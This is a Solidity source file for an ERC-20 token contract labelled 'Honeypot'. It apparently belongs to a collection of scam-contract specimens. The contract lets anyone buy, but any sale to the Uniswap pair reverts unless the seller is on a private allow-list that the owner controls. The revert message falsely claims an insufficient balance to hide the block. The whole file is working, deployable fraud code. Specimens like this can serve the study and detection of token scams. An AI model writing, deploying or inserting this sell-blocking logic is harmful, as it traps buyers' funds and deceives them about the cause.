// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title Honeypot - the classic: anyone can buy, but a sale to the pair reverts unless the seller
///        is on a private allow-list the owner keeps. The revert message pretends a balance problem.
contract Honeypot is ZooLegacyOwnedBase {
    mapping(address => bool) private _allowed;

    constructor(string memory name_, string memory symbol_, uint256 supply) ZooLegacyOwnedBase(name_, symbol_) {
        _allowed[msg.sender] = true;
        _allowed[address(this)] = true;
        _mint(msg.sender, supply);
    }

    function setAllowed(address account, bool allowed_) external onlyOwner {
        _allowed[account] = allowed_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapV2Pair && !_allowed[from]) {
            revert("ERC20: transfer amount exceeds balance");
        }
        _move(from, to, amount);
    }
}
